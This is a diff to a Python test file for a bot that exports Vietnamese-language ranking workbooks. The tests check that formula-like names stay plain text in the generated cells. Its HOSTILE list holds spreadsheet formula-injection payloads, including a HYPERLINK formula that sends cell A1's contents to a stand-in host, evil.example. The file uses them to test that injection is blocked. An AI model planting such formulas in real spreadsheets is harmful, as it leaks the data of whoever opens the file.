@@ -14,6 +14,7 @@ from bot.i18n import translator
 from bot.outputs.ranking_files import ranking_workbook
 from bot.services.ranking_data import RankingData, final_scores
 from storage.scores import Review, ScoreSheet
+from tests.year_end import ranking_data
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]
 
@@ -46,3 +47,27 @@ def test_reasons_and_evidence_names_that_look_like_formulas_stay_text() -> None:
     assert len(seen) == len(HOSTILE)
     plain = book[year.cluster.units[0].code]["A1"]
     assert plain.data_type == "s" and not plain.quotePrefix  # ordinary text is left alone
+
+
+def test_the_summary_keeps_text_as_typed_and_shows_scores_with_two_decimals() -> None:
+    year = load_cluster_year(BUNDLED_CLUSTER)
+    assert year.scoring is not None
+    names = iter(HOSTILE)
+    classes = tuple(
+        c.model_copy(update={"name": next(names)}) for c in year.scoring.classifications
+    )
+    table = year.scoring.model_copy(update={"classifications": classes})
+    data = ranking_data(year.model_copy(update={"scoring": table}), {"MA": 0, "DB": 5})
+    book = load_workbook(io.BytesIO(ranking_workbook(year.cluster, data, translator("vi"))))
+    summary = book["Tổng hợp"]
+    first, second, waiting = summary[3], summary[4], summary[5]
+    assert (first[0].value, second[0].value) == (1, 2)
+    for row, item in ((first, data.ranked[0]), (second, data.ranked[1])):
+        code = item.score.unit_code
+        assert (row[2].value, row[3].value) == (data.self_total(code), item.total)
+        assert row[2].number_format == row[3].number_format == "0.00"
+        classification = row[4]
+        assert classification.value == item.classification.name  # kept as typed
+        assert classification.data_type == "s" and classification.quotePrefix
+        assert not row[1].quotePrefix  # a unit's name is ordinary text
+    assert [c.value for c in waiting[:5]] == [None, "Huyện Tuần Giáo", None, None, "chưa chấm"]
